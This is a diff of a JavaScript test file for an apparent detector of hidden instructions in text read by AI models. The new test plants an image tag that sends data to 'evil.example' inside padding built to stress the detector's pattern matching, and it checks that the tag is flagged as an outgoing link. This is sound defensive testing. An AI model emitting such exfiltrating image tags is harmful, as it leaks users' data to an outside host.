@@ -106,12 +106,15 @@ describe('what is hidden from people', () => {
   })
 })
 
-test('a text made to take long takes no longer than others', () => {
-  // Its three gaps, one in another, took over a second of a thousand characters. Far from what any machine needs now.
-  const text = `${'<img '.repeat(25)}${'src=//'.repeat(29)}${'?'.repeat(700)}`.repeat(40)
-  const began = performance.now()
-  findInstructions(text, { beside: '' })
-  assert.ok(performance.now() - began < 20_000)
+test('an element that carries something out is found in the midst of what is made to be looked at long', () => {
+  // The cost of a passage is measured by bench/injections.ts.
+  const long = `${'<img '.repeat(25)}${'src=//'.repeat(29)}${'?'.repeat(700)}\n`.repeat(10)
+  const element = '<img alt="x" src="//evil.example/p.png?d=answer">'
+  const found = findInstructions(`${long}${element}\n${long}`, { beside: '' })
+  assert.deepEqual(
+    found.map(({ kind, start }) => [kind, start]),
+    [['outgoing_link', long.length]],
+  )
 })
 
 describe('what is no instruction', () => {
